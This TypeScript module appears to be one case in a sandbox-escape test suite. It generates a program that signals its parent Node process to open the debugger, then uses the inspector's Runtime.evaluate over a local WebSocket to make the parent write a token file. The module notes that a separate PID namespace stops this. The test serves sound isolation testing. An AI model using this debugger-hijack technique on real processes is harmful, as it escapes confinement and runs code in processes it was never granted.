import type { ProgramAttack } from '../attack.ts';
import { wroteInTheHome } from '../evidence.ts';

export const attack: ProgramAttack = {
  tries: 'opens the debugger of the process that runs the suites, and has it write a file',
  stoppedBy: {
    bubblewrap: 'own pid namespace',
  },
  without: 'level none',
  alone: true,
  program: ({ drop, token }) => `
import { once } from 'node:events';
import { connect } from 'node:net';
const inspector = { host: '127.0.0.1', port: 9229 };
process._debugProcess(process.ppid);
for (let open = false; !open; ) {
  const socket = connect(inspector);
  open = await once(socket, 'connect').then(() => true, () => false);
  socket.destroy();
}
const [target] = await (await fetch('http://127.0.0.1:9229/json/list')).json();
const socket = new WebSocket(target.webSocketDebuggerUrl);
await once(socket, 'open');
const write = 'process.getBuiltinModule("node:fs").writeFileSync(' + JSON.stringify(${JSON.stringify(drop)}) + ', "${token}")';
socket.send(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression: write } }));
await once(socket, 'message');
socket.close();
`,
  evidence: wroteInTheHome,
};
